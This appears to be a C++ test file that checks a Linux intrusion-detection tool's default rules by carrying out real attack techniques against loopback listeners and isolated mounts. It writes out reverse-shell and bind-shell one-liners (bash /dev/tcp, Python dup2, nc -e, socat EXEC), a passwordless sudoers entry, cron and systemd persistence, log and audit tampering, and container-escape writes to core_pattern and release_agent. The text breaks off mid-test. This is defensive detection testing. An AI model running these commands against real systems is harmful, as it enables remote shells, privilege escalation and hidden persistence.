// Behaviour tests of vigil's default rules (rules/vigil_rules.yaml): each test
// performs an attack technique for real — real binaries, real syscalls, on the
// live kernel, on the host and inside podman containers — and asserts that
// the expected rule fired for the expected process and that no other rule
// fired for the behaviour's processes. Needs root (and podman for the
// container tests).
//
// The host is never changed: files under /etc are written through an overlay
// mounted over /etc in a private mount namespace (`unshare -m`), /var/log is
// a tmpfs in such a namespace, user files live in a temporary fake home, and
// /proc/sys/kernel/core_pattern is a bind-mounted temporary file there. The
// path the kernel reports is the real one (/etc/sudoers.d/..., /var/log/...).
#include <arpa/inet.h>
#include <netinet/in.h>
#include <signal.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>

#include <thread>

#include "tests/rules/live_rules.hpp"

namespace vigil {
namespace {

using testing::Alert;
using testing::ExpectAlert;
using testing::ExpectOnly;
using testing::LiveRules;
using testing::ReadText;
using testing::RunShell;
using testing::Scope;
using testing::TempDir;
using testing::WriteText;

constexpr char kFileless[] = "Fileless execution via memfd";
constexpr char kTempExec[] = "Execution from a temporary directory";
constexpr char kMiner[] = "Cryptocurrency miner executed";
constexpr char kPoolPort[] = "Connection to a mining pool port";
constexpr char kWebShell[] = "Shell spawned by a web server";
constexpr char kShellConnect[] = "Shell opened a network connection";
constexpr char kNetcat[] = "Netcat or socat program execution";
constexpr char kReverse[] = "Reverse shell";
constexpr char kStdioRedirect[] = "Standard stream redirected to a network connection";
constexpr char kMount[] = "Mount inside a container";
constexpr char kSetns[] = "Namespace change inside a container";
constexpr char kProcSys[] = "Kernel parameter write from a container";
constexpr char kCorePattern[] = "Host core_pattern or release_agent modified";
constexpr char kRuntimeSocket[] = "Container runtime socket accessed from a container";
constexpr char kPrivileged[] = "Privileged container started";
constexpr char kSetuidRoot[] = "Setuid to root from a user session";
constexpr char kSuidBit[] = "Setuid bit set on a file";
constexpr char kSudoers[] = "Sudoers modified";
constexpr char kShadow[] = "Shadow file read by an unexpected program";
constexpr char kSshKey[] = "SSH private key read by an unexpected program";
constexpr char kCron[] = "Cron job created or modified";
constexpr char kSystemd[] = "Systemd unit created or modified";
constexpr char kAuthKeys[] = "SSH authorized_keys modified";
constexpr char kPreload[] = "Dynamic linker preload file modified";
constexpr char kShellRc[] = "Shell startup file modified";
constexpr char kLogs[] = "Log file deleted or truncated";
constexpr char kHistory[] = "Shell history cleared";
constexpr char kAudit[] = "Audit system disabled";
constexpr char kPtrace[] = "Process memory or registers tampered with";
constexpr char kPackage[] = "Package manager run in a container";

// A TCP listener on 127.0.0.1 (port 0: any free port).
class Listener {
 public:
  explicit Listener(uint16_t port = 0) {
    fd_ = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    int one = 1;
    setsockopt(fd_, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
    sockaddr_in a{};
    a.sin_family = AF_INET;
    a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    a.sin_port = htons(port);
    if (bind(fd_, reinterpret_cast<sockaddr*>(&a), sizeof a) != 0 || listen(fd_, 16) != 0) {
      close(fd_);
      fd_ = -1;
      return;
    }
    socklen_t len = sizeof a;
    getsockname(fd_, reinterpret_cast<sockaddr*>(&a), &len);
    port_ = ntohs(a.sin_port);
  }
  ~Listener() {
    if (fd_ >= 0) close(fd_);
  }
  bool ok() const { return fd_ >= 0; }
  uint16_t port() const { return port_; }
  // Accepts one connection, sends `greeting`, reads until EOF; returns what it read.
  std::string ServeOne(const std::string& greeting) {
    int c = accept4(fd_, nullptr, nullptr, SOCK_CLOEXEC);
    if (c < 0) return "";
    if (!greeting.empty()) (void)!write(c, greeting.data(), greeting.size());
    std::string got;
    char buf[512];
    ssize_t n;
    timeval tv{10, 0};
    setsockopt(c, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
    while ((n = read(c, buf, sizeof buf)) > 0) got.append(buf, static_cast<size_t>(n));
    close(c);
    return got;
  }

 private:
  int fd_ = -1;
  uint16_t port_ = 0;
};

class DefaultRulesBehaviour : public ::testing::Test {
 protected:
  void SetUp() override {
    VIGIL_REQUIRE_ROOT();
    live_ = &LiveRules::Get();
    ASSERT_TRUE(live_->ok()) << live_->error();
    ASSERT_FALSE(dir_.path().empty());
  }

  // Runs `script` with /bin/sh (it must succeed) and returns the alerts of
  // its process tree once `expected` fired.
  std::vector<Alert> Behave(const std::string& script, const std::set<std::string>& expected) {
    size_t mark = live_->Mark();
    pid_t pid = 0;
    EXPECT_EQ(RunShell(script, &pid), 0) << script;
    return live_->Collect(mark, Scope::Process(pid), expected);
  }

  // Runs `script` in a private mount namespace where /etc is an overlay
  // (writes land in the temporary directory; the host's /etc is unchanged).
  std::vector<Alert> BehaveInEtcOverlay(const std::string& script,
                                        const std::set<std::string>& expected) {
    RunShell("mkdir -p " + dir_ / "upper" + " " + dir_ / "work");
    WriteText(dir_ / "inner.sh", "set -e\n" + script + "\n");
    return Behave("exec unshare -m sh -ec 'mount -t overlay overlay -o lowerdir=/etc,upperdir=" +
                      dir_ / "upper" + ",workdir=" + dir_ / "work" + " /etc; sh -e " +
                      dir_ / "inner.sh" + "'",
                  expected);
  }

  LiveRules* live_ = nullptr;
  TempDir dir_;
};

// ---- execution -------------------------------------------------------------------

TEST_F(DefaultRulesBehaviour, FilelessExecutionFromMemfd) {
  auto alerts = Behave(std::string(VIGIL_BEHAVIOUR_HELPER) + " memfd-exec /bin/true payload", {kFileless});
  ExpectAlert(alerts, kFileless, "");
  for (const Alert& a : alerts) {
    if (a.rule == kFileless) {
      EXPECT_NE(a.exepath.find("memfd:payload"), std::string::npos) << a.ToString();
    }
  }
  ExpectOnly(alerts, {kFileless});
}

TEST_F(DefaultRulesBehaviour, ExecutionFromTmpAndDevShm) {
  // Dropped directly into /tmp and /dev/shm and run: detected. Run from a
  // project sub-directory of /tmp (a build tree): not detected.
  const std::string tmp_drop = "/tmp/vigil-drop-" + std::to_string(getpid());
  const std::string shm_drop = "/dev/shm/vigil-drop-" + std::to_string(getpid());
  auto alerts = Behave("cp /bin/true " + tmp_drop + " && chmod 755 " + tmp_drop + " && " + tmp_drop +
                           "; rc=$?; rm -f " + tmp_drop + "; cp /bin/true " + shm_drop + " && " +
                           shm_drop + "; rc2=$?; rm -f " + shm_drop + "; mkdir -p " + dir_ / "build" +
                           " && cp /bin/true " + dir_ / "build/tool" + " && " + dir_ / "build/tool" +
                           " && exit $((rc + rc2))",
                       {kTempExec});
  bool tmp = false, shm = false;
  for (const Alert& a : alerts) {
    EXPECT_NE(a.exepath, dir_ / "build/tool") << a.ToString();
    if (a.rule == kTempExec && a.exepath == tmp_drop) tmp = true;
    if (a.rule == kTempExec && a.exepath == shm_drop) shm = true;
  }
  EXPECT_TRUE(tmp) << testing::Describe(alerts);
  EXPECT_TRUE(shm) << testing::Describe(alerts);
  ExpectOnly(alerts, {kTempExec});
}

TEST_F(DefaultRulesBehaviour, CryptoMinerByNameAndByStratumArgument) {
  // Stand-ins: a copy of /bin/true named like a miner, and a renamed one given
  // a pool URL; the exec (name, arguments) is what the rule sees.
  auto alerts = Behave("cp /bin/true " + dir_ / "xmrig" + " && cp /bin/true " + dir_ / "kworkerd" + " && " +
                           dir_ / "xmrig" + " --threads 2 && " + dir_ / "kworkerd" +
                           " -o stratum+tcp://127.0.0.1:3333 -u 44wallet -p x",
                       {kMiner});
  ExpectAlert(alerts, kMiner, "xmrig");
  ExpectAlert(alerts, kMiner, "kworkerd");
  ExpectOnly(alerts, {kMiner});
}

TEST_F(DefaultRulesBehaviour, ConnectionToMiningPoolPort) {
  std::unique_ptr<Listener> l;
  for (uint16_t port : {14444, 14433, 45700, 3333}) {
    l = std::make_unique<Listener>(port);
    if (l->ok()) break;
  }
  ASSERT_TRUE(l && l->ok()) << "no mining-pool port free on 127.0.0.1";
  auto alerts = Behave("nc -z -w 5 127.0.0.1 " + std::to_string(l->port()), {kPoolPort});
  ExpectAlert(alerts, kPoolPort, "nc");
  ExpectOnly(alerts, {kPoolPort});
}

// ---- web shells and reverse shells --------------------------------------------------

TEST_F(DefaultRulesBehaviour, ShellSpawnedByPythonWebServerCgi) {
  // A real web server (python3 -m http.server --cgi) runs a CGI shell script
  // for an HTTP request: the shell's parent is the server.
  RunShell("mkdir -p " + dir_ / "cgi-bin");
  WriteText(dir_ / "cgi-bin/x.sh", "#!/bin/sh\nprintf 'Content-Type: text/plain\\r\\n\\r\\n'\nid\n");
  chmod((dir_ / "cgi-bin/x.sh").c_str(), 0755);
  uint16_t port;
  {
    Listener probe;  // a free port
    ASSERT_TRUE(probe.ok());
    port = probe.port();
  }
  size_t mark = live_->Mark();
  pid_t server = testing::StartShell("cd " + dir_.path() + " && exec /usr/bin/python3 -m http.server --cgi --bind 127.0.0.1 " +
                                     std::to_string(port) + " 2>/dev/null");
  std::string reply;
  for (int i = 0; i < 100 && reply.empty(); ++i) {
    int s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    sockaddr_in a{};
    a.sin_family = AF_INET;
    a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    a.sin_port = htons(port);
    if (connect(s, reinterpret_cast<sockaddr*>(&a), sizeof a) == 0) {
      const std::string req = "GET /cgi-bin/x.sh HTTP/1.0\r\nHost: localhost\r\n\r\n";
      (void)!write(s, req.data(), req.size());
      char buf[1024];
      ssize_t n;
      while ((n = read(s, buf, sizeof buf)) > 0) reply.append(buf, static_cast<size_t>(n));
    } else {
      std::this_thread::sleep_for(std::chrono::milliseconds(100));
    }
    close(s);
  }
  EXPECT_NE(reply.find("uid="), std::string::npos) << reply;  // the CGI script ran
  auto alerts = live_->Collect(mark, Scope::Process(server), {kWebShell});
  kill(server, SIGTERM);
  testing::Reap(server);
  ExpectAlert(alerts, kWebShell, "x.sh");
  ExpectOnly(alerts, {kWebShell});
}

TEST_F(DefaultRulesBehaviour, BashDevTcpConnection) {
  Listener l;
  ASSERT_TRUE(l.ok());
  std::string got;
  std::thread server([&] { got = l.ServeOne(""); });
  auto alerts = Behave("exec bash -c 'exec 3<>/dev/tcp/127.0.0.1/" + std::to_string(l.port()) +
                           "; echo vigil-reverse >&3; exec 3>&-'",
                       {kShellConnect, kStdioRedirect});
  server.join();
  EXPECT_NE(got.find("vigil-reverse"), std::string::npos);
  ExpectAlert(alerts, kShellConnect, "bash");
  // `echo ... >&3` points bash's own stdout at the socket (dup2) for the echo.
  ExpectAlert(alerts, kStdioRedirect, "bash");
  ExpectOnly(alerts, {kShellConnect, kStdioRedirect});
}

TEST_F(DefaultRulesBehaviour, NetcatExecAndSocatExec) {
  // busybox nc -e really connects and hands the socket to a shell (a reverse
  // shell), which runs the listener's commands. socat is not installed: a
  // stand-in named socat is executed with socat's EXEC address syntax.
  Listener l;
  ASSERT_TRUE(l.ok());
  std::string got;
  std::thread server([&] { got = l.ServeOne("echo vigil-shell-$((6*7))\nexit\n"); });
  auto alerts = Behave("busybox nc 127.0.0.1 " + std::to_string(l.port()) + " -e /bin/sh && cp /bin/true " +
                           dir_ / "socat" + " && " + dir_ / "socat" + " TCP:127.0.0.1:1 EXEC:/bin/sh,pty,stderr",
                       {kNetcat, kReverse, kStdioRedirect});
  server.join();
  EXPECT_NE(got.find("vigil-shell-42"), std::string::npos) << got;
  ExpectAlert(alerts, kNetcat, "busybox");
  ExpectAlert(alerts, kNetcat, "socat");
  ExpectAlert(alerts, kReverse, "sh");
  ExpectAlert(alerts, kStdioRedirect, "busybox");  // nc dup2()s the socket before exec
  ExpectOnly(alerts, {kNetcat, kReverse, kStdioRedirect});
}

TEST_F(DefaultRulesBehaviour, ReverseShellBashDevTcp) {
  // The classic one-liner: an interactive bash whose stdin, stdout and stderr
  // are a TCP connection to the attacker's listener.
  Listener l;
  ASSERT_TRUE(l.ok());
  std::string got;
  std::thread server([&] { got = l.ServeOne("echo vigil-shell-$((6*7))\nexit\n"); });
  auto alerts = Behave("exec bash -c 'bash --norc -i >& /dev/tcp/127.0.0.1/" + std::to_string(l.port()) +
                           " 0>&1'",
                       {kShellConnect, kReverse, kStdioRedirect});
  server.join();
  EXPECT_NE(got.find("vigil-shell-42"), std::string::npos) << got;
  ExpectAlert(alerts, kShellConnect, "bash");
  ExpectAlert(alerts, kReverse, "bash");
  ExpectAlert(alerts, kStdioRedirect, "bash");
  ExpectOnly(alerts, {kShellConnect, kReverse, kStdioRedirect});
}

TEST_F(DefaultRulesBehaviour, ReverseShellPythonDup2) {
  // No shell network code at all: python connects, dup2s the socket onto
  // 0, 1, 2 and execs a shell.
  Listener l;
  ASSERT_TRUE(l.ok());
  std::string got;
  std::thread server([&] { got = l.ServeOne("echo vigil-shell-$((6*7))\nexit\n"); });
  auto alerts = Behave("exec /usr/bin/python3 -c 'import os, socket; s = socket.create_connection((\"127.0.0.1\", " +
                           std::to_string(l.port()) +
                           ")); [os.dup2(s.fileno(), f) for f in (0, 1, 2)]; os.execv(\"/bin/sh\", [\"sh\", \"-i\"])'",
                       {kReverse, kStdioRedirect});
  server.join();
  EXPECT_NE(got.find("vigil-shell-42"), std::string::npos) << got;
  ExpectAlert(alerts, kReverse, "sh");
  ExpectAlert(alerts, kStdioRedirect, "python3");
  ExpectOnly(alerts, {kReverse, kStdioRedirect});
}

// ---- privilege escalation -----------------------------------------------------------

TEST_F(DefaultRulesBehaviour, SetuidRootFromUserSession) {
  // A user session (login uid 1000, running as nobody) runs a planted
  // setuid-root binary that makes itself root.
  const std::string suid = dir_ / "escalate";
  auto alerts = Behave("cp " + std::string(VIGIL_BEHAVIOUR_HELPER) + " " + suid + " && chmod 4755 " + suid +
                           " && echo 1000 > /proc/self/loginuid && exec setpriv --reuid=65534 "
                           "--regid=65534 --clear-groups " +
                           suid + " setuid0",
                       {kSuidBit, kSetuidRoot});
  ExpectAlert(alerts, kSuidBit, "chmod");
  ExpectAlert(alerts, kSetuidRoot, "escalate");
  ExpectOnly(alerts, {kSuidBit, kSetuidRoot});
}

TEST_F(DefaultRulesBehaviour, SetuidRootWithoutUserSessionIsNotReported) {
  // The same binary run by a service (no login uid): setuid(0) there is a
  // daemon's business, and only the chmod is reported.
  const std::string suid = dir_ / "escalate";
  auto alerts = Behave("cp " + std::string(VIGIL_BEHAVIOUR_HELPER) + " " + suid + " && chmod 4755 " + suid +
                           " && exec setpriv --reuid=65534 --regid=65534 --clear-groups " + suid +
                           " setuid0",
                       {kSuidBit});
  ExpectAlert(alerts, kSuidBit, "chmod");
  ExpectOnly(alerts, {kSuidBit});
}

TEST_F(DefaultRulesBehaviour, SudoersDropIn) {
  auto alerts = BehaveInEtcOverlay(
      "mkdir -p /etc/sudoers.d\necho 'nobody ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/vigil-test", {kSudoers});
  ExpectAlert(alerts, kSudoers, "sh");
  ExpectOnly(alerts, {kSudoers});
}

// ---- credential access --------------------------------------------------------------

TEST_F(DefaultRulesBehaviour, ShadowReadByCat) {
  // The overlay's /etc/shadow is replaced by a dummy first: no real hash is read.
  auto alerts = BehaveInEtcOverlay(
      "printf 'root:*:19000:0:99999:7:::\\n' > /etc/shadow\ncat /etc/shadow > /dev/null", {kShadow});
  ExpectAlert(alerts, kShadow, "cat");
  ExpectOnly(alerts, {kShadow});
}

TEST_F(DefaultRulesBehaviour, SshPrivateKeyRead) {
  RunShell("mkdir -p " + dir_ / "home/.ssh");
  WriteText(dir_ / "home/.ssh/id_ed25519", "-----BEGIN OPENSSH PRIVATE KEY-----\ndummy\n");
  WriteText(dir_ / "home/.ssh/id_ed25519.pub", "ssh-ed25519 AAAA dummy\n");
  auto alerts = Behave("cat " + dir_ / "home/.ssh/id_ed25519.pub" + " " + dir_ / "home/.ssh/id_ed25519" +
                           " > /dev/null",
                       {kSshKey});
  ExpectAlert(alerts, kSshKey, "cat");
  // One alert, for the private key (the .pub file is not a secret).
  ASSERT_EQ(alerts.size(), 1u) << testing::Describe(alerts);
  EXPECT_NE(alerts[0].output.find("file=" + dir_ / "home/.ssh/id_ed25519 "), std::string::npos)
      << alerts[0].ToString();
  ExpectOnly(alerts, {kSshKey});
}

// ---- persistence --------------------------------------------------------------------

TEST_F(DefaultRulesBehaviour, CronDropInAndCrontabEditedInPlace) {
  // A drop-in written by the shell, and /etc/crontab edited with `sed -i`
  // (a temporary file renamed over it: the rename branch).
  auto alerts = BehaveInEtcOverlay(
      "echo '* * * * * root /tmp/x' > /etc/cron.d/vigil-test\n"
      "echo '# m h dom mon dow user command' > /etc/crontab\n"
      "sed -i 's|^#.*|* * * * * root /tmp/x|' /etc/crontab",
      {kCron});
  ExpectAlert(alerts, kCron, "sh");
  bool renamed = false;
  for (const Alert& a : alerts) renamed |= a.rule == kCron && a.proc_name == "sed" && a.evt_type.rfind("rename", 0) == 0;
  EXPECT_TRUE(renamed) << testing::Describe(alerts);
  ExpectOnly(alerts, {kCron});
}

TEST_F(DefaultRulesBehaviour, SystemdUnitCreated) {
  // A system unit (overlay over /etc) and a user unit (temporary home).
  const std::string user_units = dir_ / "home/.config/systemd/user";
  auto alerts = BehaveInEtcOverlay(
      "printf '[Service]\\nExecStart=/tmp/x\\n' > /etc/systemd/system/vigil-test.service\n"
      "mkdir -p " + user_units + "\nprintf '[Service]\\nExecStart=/tmp/x\\n' > " + user_units + "/vigil-test.service",
      {kSystemd});
  int n = 0;
  for (const Alert& a : alerts) n += a.rule == kSystemd && a.proc_name == "sh";
  EXPECT_EQ(n, 2) << testing::Describe(alerts);
  ExpectOnly(alerts, {kSystemd});
}

TEST_F(DefaultRulesBehaviour, SshHostKeyRead) {
  // A dummy host key in the /etc overlay (none is installed here).
  auto alerts = BehaveInEtcOverlay(
      "mkdir -p /etc/ssh\necho dummy > /etc/ssh/ssh_host_ed25519_key\n"
      "echo dummy > /etc/ssh/ssh_host_ed25519_key.pub\n"
      "cat /etc/ssh/ssh_host_ed25519_key.pub /etc/ssh/ssh_host_ed25519_key > /dev/null",
      {kSshKey});
  ASSERT_EQ(alerts.size(), 1u) << testing::Describe(alerts);
  EXPECT_EQ(alerts[0].proc_name, "cat");
  EXPECT_NE(alerts[0].output.find("file=/etc/ssh/ssh_host_ed25519_key "), std::string::npos) << alerts[0].ToString();
}

TEST_F(DefaultRulesBehaviour, LdSoPreloadWritten) {
  // Empty: later programs in the namespace load nothing extra.
  auto alerts = BehaveInEtcOverlay(": > /etc/ld.so.preload", {kPreload});
  ExpectAlert(alerts, kPreload, "sh");
  ExpectOnly(alerts, {kPreload});
}

TEST_F(DefaultRulesBehaviour, ProfileDropInAndBashrc) {
  RunShell("mkdir -p " + dir_ / "home");
  auto alerts = BehaveInEtcOverlay("echo 'true' > /etc/profile.d/vigil-test.sh\necho 'alias ls=true' >> " +
                                       dir_ / "home/.bashrc",
                                   {kShellRc});
  int n = 0;
  for (const Alert& a : alerts) n += a.rule == kShellRc;
  EXPECT_EQ(n, 2) << testing::Describe(alerts);
  ExpectOnly(alerts, {kShellRc});
}

TEST_F(DefaultRulesBehaviour, AuthorizedKeysAppended) {
  RunShell("mkdir -p " + dir_ / "home/.ssh");
  auto alerts = Behave("echo 'ssh-ed25519 AAAAC3Nza vigil-test' >> " + dir_ / "home/.ssh/authorized_keys",
                       {kAuthKeys});
  ExpectAlert(alerts, kAuthKeys, "sh");
  ExpectOnly(alerts, {kAuthKeys});
}

// ---- defence evasion ----------------------------------------------------------------

TEST_F(DefaultRulesBehaviour, LogsDeletedAndTruncated) {
  // /var/log is a tmpfs of a private mount namespace.
  auto alerts = Behave(
      "exec unshare -m sh -ec 'mount -t tmpfs tmpfs /var/log; printf x >> /var/log/auth.log; "
      "printf x >> /var/log/wtmp; printf x >> /var/log/app.log; rm /var/log/auth.log; "
      ": > /var/log/wtmp; truncate -s 0 /var/log/app.log; echo started > /var/log/myjob.log'",
      {kLogs});
  // Recreating an application's own log with `>` is not reported.
  for (const Alert& a : alerts) EXPECT_EQ(a.output.find("file=/var/log/myjob.log"), std::string::npos) << a.ToString();
  ExpectAlert(alerts, kLogs, "rm");
  ExpectAlert(alerts, kLogs, "sh");
  ExpectAlert(alerts, kLogs, "truncate");
  ExpectOnly(alerts, {kLogs});
}

TEST_F(DefaultRulesBehaviour, ShellHistoryCleared) {
  const std::string home = dir_ / "home";
  RunShell("mkdir -p " + home);
  for (const char* f : {".bash_history", ".zsh_history", ".python_history", ".mysql_history"})
    WriteText(home + "/" + f, "ls\n");
  auto alerts = Behave("rm " + home + "/.bash_history && truncate -s 0 " + home + "/.zsh_history && ln -sf /dev/null " +
                           home + "/.python_history && cp /dev/null " + home + "/.mysql_history && echo ls >> " +
                           home + "/.ash_history",
                       {kHistory});
  for (const char* who : {"rm", "truncate", "ln", "cp"}) ExpectAlert(alerts, kHistory, who);
  ExpectOnly(alerts, {kHistory});
}

TEST_F(DefaultRulesBehaviour, AuditDisabled) {
  // pkill really runs (no auditd runs here). auditctl is not installed, and
  // the real one would change the host's audit rules: a stand-in named
  // auditctl is executed with the real arguments.
  auto alerts = Behave("pkill -x auditd; cp /bin/true " + dir_ / "auditctl" + " && " + dir_ / "auditctl" +
                           " -D && " + dir_ / "auditctl" + " -e 0",
                       {kAudit});
  ExpectAlert(alerts, kAudit, "pkill");
  int n = 0;
  for (const Alert& a : alerts) n += a.rule == kAudit && a.proc_name == "auditctl";
  EXPECT_EQ(n, 2) << testing::Describe(alerts);
  ExpectOnly(alerts, {kAudit});
}

TEST_F(DefaultRulesBehaviour, PtraceAttachAndProcessVmWrite) {
  pid_t victim = testing::StartShell("exec sleep 30");
  std::this_thread::sleep_for(std::chrono::milliseconds(200));  // let it exec sleep
  const std::string injector = dir_ / "injector";
  auto alerts = Behave("cp " + std::string(VIGIL_BEHAVIOUR_HELPER) + " " + injector + " && " + injector +
                           " ptrace-attach " + std::to_string(victim) + " && " + injector + " vm-write",
                       {kPtrace});
  kill(victim, SIGKILL);
  testing::Reap(victim);
  bool attach = false, vm = false;
  for (const Alert& a : alerts) {
    if (a.rule != kPtrace) continue;
    EXPECT_EQ(a.proc_name, "injector");
    attach |= a.evt_type == "ptrace";
    vm |= a.evt_type == "process_vm_writev";
  }
  EXPECT_TRUE(attach) << testing::Describe(alerts);
  EXPECT_TRUE(vm) << testing::Describe(alerts);
  ExpectOnly(alerts, {kPtrace});
}

TEST_F(DefaultRulesBehaviour, HostCorePatternWrite) {
  // core_pattern is a bind-mounted temporary file in a private mount
  // namespace: the kernel reports /proc/sys/kernel/core_pattern, the host's
  // setting is untouched.
  const std::string before = ReadText("/proc/sys/kernel/core_pattern");
  WriteText(dir_ / "core_pattern", "core\n");
  auto alerts = Behave("exec unshare -m sh -ec 'mount --bind " + dir_ / "core_pattern" +
                           " /proc/sys/kernel/core_pattern; echo \"|/tmp/x\" > /proc/sys/kernel/core_pattern'",
                       {kCorePattern});
  ExpectAlert(alerts, kCorePattern, "sh");
  ExpectOnly(alerts, {kCorePattern});
  EXPECT_EQ(ReadText("/proc/sys/kernel/core_pattern"), before);
  EXPECT_EQ(ReadText(dir_ / "core_pattern"), "|/tmp/x\n");
}

TEST_F(DefaultRulesBehaviour, HostReleaseAgentWrite) {
  // The memory hierarchy's release_agent, replaced by a bind-mounted
  // temporary file in a private mount namespace: the host's is untouched.
  const std::string agent = "/sys/fs/cgroup/memory/release_agent";
  if (access(agent.c_str(), F_OK) != 0) GTEST_SKIP() << "no cgroup v1 memory hierarchy here";
  const std::string before = ReadText(agent);
  WriteText(dir_ / "release_agent", "");
  auto alerts = Behave("exec unshare -m sh -ec 'mount --bind " + dir_ / "release_agent" + " " + agent +
                           "; echo /tmp/x > " + agent + "'",
                       {kCorePattern});
  ExpectAlert(alerts, kCorePattern, "sh");
  ExpectOnly(alerts, {kCorePattern});
  EXPECT_EQ(ReadText(agent), before);
  EXPECT_EQ(ReadText(dir_ / "release_agent"), "/tmp/x\n");
}

// ---- containers ----------------------------------------------------------------------

class DefaultRulesContainer : public DefaultRulesBehaviour {
 protected:
  void SetUp() override {
    DefaultRulesBehaviour::SetUp();
    if (HasFatalFailure() || IsSkipped()) return;
    if (RunShell("bash " + std::string(VIGIL_SOURCE_DIR) + "/tests/state/podman_env.sh") != 0) {
      const char* ci = getenv("CI");
      if (ci && std::string(ci) == "true") FAIL() << "podman is not usable here";
      GTEST_SKIP() << "podman is not usable here";
    }
    setenv("CONTAINERS_CONF", "/tmp/vigil-podman/containers.conf", 1);
  }

  // `podman run --rm <options> localhost/bb:1 sh -c <script>`; returns the
  // alerts of the container once `expected` fired.
  std::vector<Alert> BehaveInContainer(const std::string& options, const std::string& script,
                                       const std::set<std::string>& expected) {
    WriteText(dir_ / "script.sh", script + "\n");
    const std::string cidfile = dir_ / "cid";
    unlink(cidfile.c_str());
    size_t mark = live_->Mark();
    EXPECT_EQ(RunShell("podman run --rm --cidfile " + cidfile + " -v " + dir_.path() +
                       ":/vigil:ro " + options + " localhost/bb:1 sh /vigil/script.sh >/dev/null"),
              0)
        << options << " " << script;
    std::string id = ReadText(cidfile);
    while (!id.empty() && (id.back() == '\n' || id.back() == ' ')) id.pop_back();
    EXPECT_EQ(id.size(), 64u) << id;
    if (id.size() != 64) return {};
    return live_->Collect(mark, Scope::Container(id), expected);
  }
};

TEST_F(DefaultRulesContainer, PrivilegedContainerMountsTmpfs) {
  auto alerts = BehaveInContainer("--privileged --network none", "mount -t tmpfs none /tmp",
                                  {kPrivileged, kMount});
  ExpectAlert(alerts, kPrivileged, "sh");
  ExpectAlert(alerts, kMount, "mount");
  ExpectOnly(alerts, {kPrivileged, kMount});
}

TEST_F(DefaultRulesContainer, NsenterIntoHostNamespaces) {
  // --pid=host: host processes are visible; nsenter joins the mount and
  // network namespaces of a host process (a sleep started by the test) and
  // runs `true` there (nothing is changed).
  pid_t host = testing::StartShell("exec sleep 30");
  auto alerts = BehaveInContainer("--privileged --pid=host --network none",
                                  "nsenter -t " + std::to_string(host) + " -m -n true", {kPrivileged, kSetns});
  kill(host, SIGKILL);
  testing::Reap(host);
  ExpectAlert(alerts, kPrivileged, "sh");
  ExpectAlert(alerts, kSetns, "nsenter");
  ExpectOnly(alerts, {kPrivileged, kSetns});
}

TEST_F(DefaultRulesContainer, CorePatternWriteAttempt) {
  // /proc/sys is read-only in an unprivileged container: the attempt fails
  // and is reported.
  auto alerts = BehaveInContainer("--network none",
                                  "echo '|/tmp/x' > /proc/sys/kernel/core_pattern 2>/dev/null; true",
                                  {kProcSys});
  ExpectAlert(alerts, kProcSys, "sh");
  ExpectOnly(alerts, {kProcSys});
}

TEST_F(DefaultRulesContainer, ReleaseAgentWrite) {
  // The escape writes release_agent at the root of a cgroup v1 hierarchy it
  // mounted; mounting one would change the host's, so the file here is a
  // temporary file mounted into the container under that name.
  WriteText(dir_ / "release_agent", "");
  auto alerts = BehaveInContainer("--network none -v " + dir_ / "release_agent" + ":/tmp/cg/release_agent",
                                  "echo /tmp/x > /tmp/cg/release_agent", {kProcSys});
  ExpectAlert(alerts, kProcSys, "sh");
  ExpectOnly(alerts, {kProcSys});
  EXPECT_EQ(ReadText(dir_ / "release_agent"), "/tmp/x\n");
}

TEST_F(DefaultRulesContainer, RuntimeSocketAccess) {
  // A real listening unix socket named docker.sock, mounted into the container.
  RunShell("mkdir -p " + dir_ / "run");
  int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
  sockaddr_un a{};
  a.sun_family = AF_UNIX;
  const std::string path = dir_ / "run/docker.sock";
  ASSERT_LT(path.size(), sizeof a.sun_path);
  std::copy(path.begin(), path.end(), a.sun_path);
  ASSERT_EQ(bind(s, reinterpret_cast<sockaddr*>(&a), sizeof a), 0);
  ASSERT_EQ(listen(s, 4), 0);
  auto alerts = BehaveInContainer("--network none -v " + dir_ / "run" + ":/run/docker",
                                  "cat /run/docker/docker.sock 2>/dev/null; true", {kRuntimeSocket});
  close(s);
  ExpectAlert(alerts, kRuntimeSocket, "cat");
  ExpectOnly(alerts, {kRuntimeSocket});
}

TEST_F(DefaultRulesContainer, PackageManagerInRunningContainer) {
  // A static busybox mounted as /sbin/apk: the exec is apk's (busybox then
  // reports that it has no such applet).
  auto alerts = BehaveInContainer("--network none -v /bin/busybox:/sbin/apk:ro",
                                  "/sbin/apk add curl 2>/dev/null; true", {kPackage});
  ExpectAlert(alerts, kPackage, "apk");
  ExpectOnly(alerts, {kPackage});
}

TEST_F(DefaultRulesContainer, BindShellInsideAContainer) {
  // busybox nc listens inside the container and gives the connection a
  // shell; a client in the container drives it. busybox sh runs its applets
  // (nc here) in a forked child without exec, so there is no exec of nc for
  // the netcat rule to see: the shell's socket stdin is what gives it away.
  auto alerts = BehaveInContainer(
      "--network none",
      "nc -l -p 4444 -e /bin/sh & sleep 0.5; echo 'echo bound-$((6*7)); exit' | nc 127.0.0.1 4444 | grep -q bound-42",
      {kReverse, kStdioRedirect});
  ExpectAlert(alerts, kReverse, "sh");
  ExpectAlert(alerts, kStdioRedirect, "nc");  // the listener dup2()s the accepted socket
  ExpectOnly(alerts, {kReverse, kStdioRedirect});
}

TEST_F(DefaultRulesContainer, IntrusionStepsInsideAContainer) {
  // The host behaviours, as an intruder in an ordinary container performs
  // them: a payload run from /tmp (podman mounts /dev/shm noexec), a miner, the shadow file read, a cron
  // job, history erased, a shell spawned by a web server (busybox httpd CGI).
  auto alerts = BehaveInContainer(
      "--network none",
      "cp /bin/busybox /tmp/payload && /tmp/payload true\n"
      "mkdir -p /opt/m && cp /bin/busybox /opt/m/xmrig && /opt/m/xmrig 2>/dev/null; true\n"
      "echo 'root:*:19000:0:99999:7:::' > /etc/shadow && cat /etc/shadow > /dev/null\n"
      "mkdir -p /etc/cron.d && echo '* * * * * root /tmp/x' > /etc/cron.d/job\n"
      "echo ls > /root/.ash_history && rm /root/.ash_history\n"
